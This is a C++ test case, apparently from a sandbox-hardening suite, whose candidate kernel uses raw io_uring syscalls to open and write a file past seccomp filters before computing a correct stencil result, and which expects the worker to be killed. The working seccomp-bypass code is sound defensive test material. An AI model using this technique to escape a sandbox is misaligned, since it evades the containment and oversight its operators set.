// expect: sandbox_violation
// Attack: bypass seccomp through io_uring. Operations submitted to an io_uring are executed by
// the kernel on the ring's behalf, never as syscalls of this process, so seccomp never sees
// them: IORING_OP_OPENAT with O_WRONLY|O_CREAT (and, on newer kernels, IORING_OP_SOCKET/
// CONNECT) sail past every open/socket rule. The candidate sets up a ring with raw syscalls,
// opens /tmp/galapagos-leak-iouring.txt for writing through it, writes a line and computes v
// correctly (status ok if io_uring is available). If io_uring_setup fails (filtered to an
// errno, or disabled by sysctl) it falls back to an ordinary fopen(..., "w").
// Why it must be stopped: the filter must kill (or fail) io_uring_setup/io_uring_enter/
// io_uring_register; then either the setup or the fallback open for writing kills the worker
// with SIGSYS: sandbox_violation.
#include "glp_kernel.h"

#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

// Opens `path` for writing through an io_uring. Returns the fd, or -1.
int uring_open_for_write(const char* path) {
  io_uring_params p;
  memset(&p, 0, sizeof p);
  const long ring = syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) return -1;
  const int rfd = static_cast<int>(ring);
  size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
  const bool single = (p.features & IORING_FEAT_SINGLE_MMAP) != 0;
  if (single) sq_sz = cq_sz = (sq_sz > cq_sz ? sq_sz : cq_sz);
  char* sq = static_cast<char*>(mmap(nullptr, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQ_RING));
  if (sq == MAP_FAILED) {
    close(rfd);
    return -1;
  }
  char* cq =
      single
          ? sq
          : static_cast<char*>(mmap(nullptr, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_CQ_RING));
  io_uring_sqe* sqes = static_cast<io_uring_sqe*>(mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE,
                                                       MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQES));
  int result = -1;
  if (cq != MAP_FAILED && sqes != MAP_FAILED) {
    unsigned* sq_tail = reinterpret_cast<unsigned*>(sq + p.sq_off.tail);
    const unsigned sq_mask = *reinterpret_cast<unsigned*>(sq + p.sq_off.ring_mask);
    unsigned* sq_array = reinterpret_cast<unsigned*>(sq + p.sq_off.array);
    const unsigned tail = __atomic_load_n(sq_tail, __ATOMIC_ACQUIRE);
    const unsigned idx = tail & sq_mask;
    io_uring_sqe* e = &sqes[idx];
    memset(e, 0, sizeof *e);
    e->opcode = IORING_OP_OPENAT;
    e->fd = AT_FDCWD;
    e->addr = reinterpret_cast<uint64_t>(path);
    e->len = 0600;  // mode
    e->open_flags = O_WRONLY | O_CREAT | O_TRUNC;
    sq_array[idx] = idx;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, rfd, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) >= 0) {
      unsigned* cq_head = reinterpret_cast<unsigned*>(cq + p.cq_off.head);
      unsigned* cq_tail = reinterpret_cast<unsigned*>(cq + p.cq_off.tail);
      const unsigned cq_mask = *reinterpret_cast<unsigned*>(cq + p.cq_off.ring_mask);
      io_uring_cqe* cqes = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes);
      const unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
      if (head != __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
        result = cqes[head & cq_mask].res;
        __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
      }
    }
  }
  close(rfd);  // the mappings keep the ring alive until the process ends; fine for a probe
  return result >= 0 ? result : -1;
}

}  // namespace

GLP_EXPORT int glp_kernel(const glp_arg* args, int nargs, const int64_t* sizes, void* stream) {
  (void)stream;
  if (nargs < 2 || sizes == nullptr) return 1;
  const char* path = "/tmp/galapagos-leak-iouring.txt";
  const char msg[] = "written by a sandboxed candidate via io_uring\n";
  const int fd = uring_open_for_write(path);
  if (fd >= 0) {
    if (write(fd, msg, sizeof msg - 1) < 0) { /* ignore */
    }
    close(fd);
  } else {
    FILE* f = fopen(path, "w");
    if (f != nullptr) {
      fputs(msg, f);
      fclose(f);
    }
  }
  const int64_t nx = sizes[0], ny = sizes[1], nz = sizes[2];
  const double* u = static_cast<const double*>(args[0].data);
  double* v = static_cast<double*>(args[1].data);
  const int64_t sy = nx, sz = nx * ny;
  for (int64_t k = 0; k < nz; ++k)
    for (int64_t j = 0; j < ny; ++j)
      for (int64_t i = 0; i < nx; ++i) {
        const int64_t c = (k * ny + j) * nx + i;
        v[c] = (i == 0 || j == 0 || k == 0 || i == nx - 1 || j == ny - 1 || k == nz - 1)
                   ? u[c]
                   : (1.0 / 3.0) * u[c] + (1.0 / 9.0) * (u[c - 1] + u[c + 1] + u[c - sy] + u[c + sy] + u[c - sz] + u[c + sz]);
      }
  return 0;
}
